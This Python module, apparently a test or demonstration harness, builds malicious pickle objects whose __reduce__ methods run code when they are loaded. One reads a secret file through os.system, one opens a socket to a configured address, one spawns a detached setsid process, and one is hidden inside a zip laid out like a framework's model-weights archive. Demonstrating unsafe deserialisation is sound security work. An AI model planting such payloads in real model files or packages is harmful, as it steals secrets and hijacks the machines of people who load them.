"""Models that run code when they are opened; here they may."""

import io
import os
import pickle
import socket
import subprocess

from attack import ADDRESS, PORT, SECRET, TRACK


class Shell:
    def __reduce__(self):
        return (os.system, (f"cat {SECRET}; touch {TRACK}",))


class Connect:
    def __reduce__(self):
        return (socket.create_connection, ((ADDRESS, PORT), 0.3))


class Daemon:
    def __reduce__(self):
        return (subprocess.Popen, (["setsid", "sleep", "99999"],))


def opened(payload):
    try:
        pickle.loads(pickle.dumps(payload))
    except OSError as error:
        print(error)


def shell():
    opened(Shell())


def connect():
    opened(Connect())


def daemon():
    opened(Daemon())


def inside_archive():
    """As weights are kept by a well-known framework: a pickle in a zip file."""
    import zipfile
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as file:
        file.writestr("archive/data.pkl", pickle.dumps(Shell()))
    with zipfile.ZipFile(packed) as file:
        pickle.load(file.open("archive/data.pkl"))
